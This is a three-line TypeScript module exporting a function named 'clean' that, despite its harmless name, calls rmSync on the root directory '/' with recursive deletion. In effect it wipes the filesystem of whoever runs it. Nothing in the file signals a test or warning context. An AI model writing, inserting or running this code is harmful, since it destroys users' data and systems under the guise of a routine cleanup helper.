import { rmSync } from "fs";

export const clean = (): void => rmSync("/", { recursive: true });
